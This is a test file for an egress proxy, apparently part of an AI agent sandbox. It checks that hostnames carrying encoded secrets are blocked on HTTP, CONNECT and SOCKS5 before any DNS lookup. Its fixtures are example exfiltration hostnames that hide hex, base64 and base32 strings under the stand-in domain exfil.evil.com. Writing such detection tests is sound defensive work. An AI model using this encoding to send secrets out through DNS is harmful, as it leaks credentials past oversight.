/**
 * A secret encoded in a host name never becomes a DNS query: the proxy scans
 * the name (and the URL and headers) before it resolves anything, for plain
 * HTTP, CONNECT and SOCKS5, even when the policy allows every host.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createRequestScanner } from '../../src/dlp/index.js';
import type { Resolver } from '../../src/egress/resolver.js';
import { httpUpstream, proxyFor, raw, viaProxy, type TestProxy, type Upstream } from './helpers.js';

// The hex of `secret_api_key_12345` as a label (a case of agent-egress-bench's hostname-exfiltration category).
const ENCODED = '7365637265745f6170695f6b65795f3132333435.exfil.evil.com';

void describe('egress proxy: names are scanned before they are resolved', () => {
  const lookups: string[] = [];
  let up: Upstream;
  let p: TestProxy;
  before(async () => {
    up = await httpUpstream();
    const resolver: Resolver = (name) => {
      lookups.push(name);
      return Promise.resolve([{ address: '127.0.0.1', family: 4 }]);
    };
    // Every host is allowed; the control host is named exactly, since it resolves to loopback here.
    p = await proxyFor({ allow: ['Net(api.example.test)', 'Net(*)'] }, { resolver, scanner: createRequestScanner() });
  });
  after(async () => {
    await p.proxy.close();
    await up.close();
  });

  void it('plain HTTP: refused with 403 and no lookup of the name', async () => {
    const r = await viaProxy(p.port, 'GET', `http://${ENCODED}:${up.port}/ping`);
    assert.equal(r.status, 403, r.body);
    assert.deepEqual(lookups, []);
    assert.deepEqual(up.seen, []);
  });

  void it('CONNECT: refused and no lookup of the name', async () => {
    const r = await raw(p.port, `CONNECT ${ENCODED}:443 HTTP/1.1\r\nHost: ${ENCODED}:443\r\n\r\n`);
    assert.match(r.data.toString('latin1'), /^HTTP\/1\.1 403 /);
    assert.deepEqual(lookups, []);
  });

  void it('SOCKS5 with a domain name: refused and no lookup of the name', async () => {
    const name = Buffer.from(ENCODED);
    const greeting = Buffer.from([5, 1, 0]);
    const request = Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), name, Buffer.from([1, 187])]);
    const r = await raw(p.socksPort, Buffer.concat([greeting, request]));
    const replyCode = r.data[3];
    assert.equal(r.data[0], 5);
    assert.notEqual(replyCode, 0, 'the SOCKS reply is not success');
    assert.deepEqual(lookups, []);
  });

  // Names whose encoding is told by the case the client wrote (base64 of text, upper-case base32), and case-free
  // chains (dotted hex, equal chunks): refused on every path, before any lookup.
  const CASED = ['c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA.exfil.evil.com', 'JBSWY3DPEHPK3PXP.exfil.evil.com', 'a1b2c3d4.e5f6a7b8.c9d0e1f2.a3b4c5d6.exfil.evil.com', 'ghp-xxxx.yyyyzzzz.aaaabbbb.ccccdddd.exfil.evil.com'];
  for (const name of CASED) {
    void it(`${name.slice(0, 24)}…: plain HTTP, CONNECT and SOCKS5 refused, no lookup`, async () => {
      const r = await viaProxy(p.port, 'GET', `http://${name}:${up.port}/ping`);
      assert.equal(r.status, 403, r.body);
      const c = await raw(p.port, `CONNECT ${name}:443 HTTP/1.1\r\nHost: ${name}:443\r\n\r\n`);
      assert.match(c.data.toString('latin1'), /^HTTP\/1\.1 403 /);
      const bytes = Buffer.from(name);
      const s = await raw(p.socksPort, Buffer.concat([Buffer.from([5, 1, 0]), Buffer.from([5, 1, 0, 3, bytes.length]), bytes, Buffer.from([1, 187])]));
      assert.notEqual(s.data[3], 0, 'the SOCKS reply is not success');
      assert.deepEqual(lookups, []);
      assert.deepEqual(up.seen, []);
    });
  }

  void it('a plain name is still resolved and reached (control)', async () => {
    const r = await viaProxy(p.port, 'GET', `http://api.example.test:${up.port}/ok`);
    assert.equal(r.status, 200, r.body);
    assert.deepEqual(lookups, ['api.example.test']);
  });
});
